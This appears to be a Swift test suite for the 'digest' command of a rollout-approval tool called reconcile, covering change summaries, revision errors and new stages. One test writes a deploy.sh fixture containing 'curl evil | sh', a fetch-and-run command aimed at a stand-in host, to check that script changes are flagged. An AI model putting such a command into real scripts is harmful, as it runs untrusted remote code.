import TestSupport
import Testing

@testable import reconcile

@Suite("reconcile digest") struct DigestCommandTests {
    @Test func `a program that is too large to be approved holds, and has no digest`() throws {
        let sandbox = try team()
        _ = try run("truncate", ["-s", "257M", sandbox.path + "/deploy.sh"], environment: [:])
        #expect(
            Transcript("validate", in: sandbox.path).output == """
                desired-state/production.yaml:6:28: error: `deploy.sh` is larger than 256 MiB, so nobody can approve it by content
                    6 |   actions: {deploy: {run: [./deploy.sh, --version=$(version)]}}
                      |                            ^~~~~~~~~~~
                      = keep it elsewhere, and its checksum in the program that fetches it

                1 error in 1 file

                """)
        let told = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.output == "")
        #expect(told.errors.contains("`deploy.sh` is larger than 256 MiB"))
    }

    @Test func `what only one clone knows is nothing to compare with`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        _ = try sandbox.commit("better")
        for words in [
            ["digest", "app", "production", "--against", "HEAD@{1}"], ["validate", "HEAD@{1}"],
        ] {
            let told = Transcript(words: words, in: sandbox.path)
            #expect(told.status == .invalid)
            #expect(
                told.errors == """
                    reconcile: could not resolve the revision `HEAD@{1}`: what `@{…}` means is known to this clone alone
                    name a branch, a tag or a commit

                    """)
        }
    }

    @Test func `the digest of a revision and of the same working folder are one`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        let here = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(here.status == .success)
        #expect(here.output.hasPrefix("sha256:"))
        #expect(Transcript("digest", "app", "production", "--at", "HEAD", in: sandbox.path) == here)
    }

    @Test func `what changed since a revision is said by its part`() throws {
        let sandbox = try team()
        _ = try sandbox.commit("good")
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.1", soak: "soak: 72h"))
        try sandbox.write("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
            .output
        let lines = told.split(separator: "\n").dropFirst(2).joined(separator: "\n")
        #expect(
            lines == """
                  what
                    version was 2.4.0, is 2.4.1
                  under what
                    soak was 1h, is 72h
                  by what
                    deploy.sh changed
                """)
    }

    @Test func `an unknown stage is answered with the nearest one`() throws {
        let sandbox = try team()
        let told = Transcript("digest", "app", "prodution", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(
            told.errors == """
                reconcile: the rollout `app` has no stage called `prodution`
                did you mean `production`?

                """)
    }

    @Test func `a stage that is held has no digest to approve`() throws {
        let sandbox = try team()
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "sook: 1h"))
        let told = Transcript("digest", "app", "production", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(told.errors.contains("unknown field `sook`"))
    }

    @Test func `a stage that is new since a revision is said to be new`() throws {
        let sandbox = try team()
        try sandbox.commit("one stage")
        let second = app(version: "2.4.0") + "    - {name: work}\n"
        try sandbox.write("desired-state/app.yaml", second)
        let told = Transcript("digest", "app", "work", "--against", "HEAD", in: sandbox.path)
        #expect(told.status == .success)
        let lines = told.output.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.first?.hasPrefix("sha256:") == true)
        #expect(
            lines.dropFirst().joined(separator: "\n") == """

                The stage is new since HEAD: no sign-off can have been given for it then.

                """)
        let json = Transcript(
            "digest", "app", "work", "--against", "HEAD", "--output", "json", in: sandbox.path)
        #expect(json.output.contains("\"revision\": \"HEAD\",\n    \"digest\": null,"))
    }

    @Test func `a rollout and a desired state that are new are new stages too`() throws {
        let sandbox = try team()
        try sandbox.run("rm --cached --quiet -r .")
        try sandbox.git(["commit", "--quiet", "--allow-empty", "--message", "nothing"])
        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
        #expect(told.status == .success)
        #expect(told.output.contains("The stage is new since HEAD"))
    }

    @Test func `what was wrong at the revision is no older digest`() throws {
        let sandbox = try team()
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "sook: 1h"))
        try sandbox.commit("bad")
        try sandbox.write("desired-state/app.yaml", app(version: "2.4.0"))
        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
        #expect(told.status == .invalid)
        #expect(
            told.errors == """
                reconcile: at HEAD, the rollout `app` has errors, so nothing can be approved yet: desired-state/app.yaml:9: unknown field `sook` in a stage
                What was wrong there could not be approved: name another revision.

                """)
    }
}
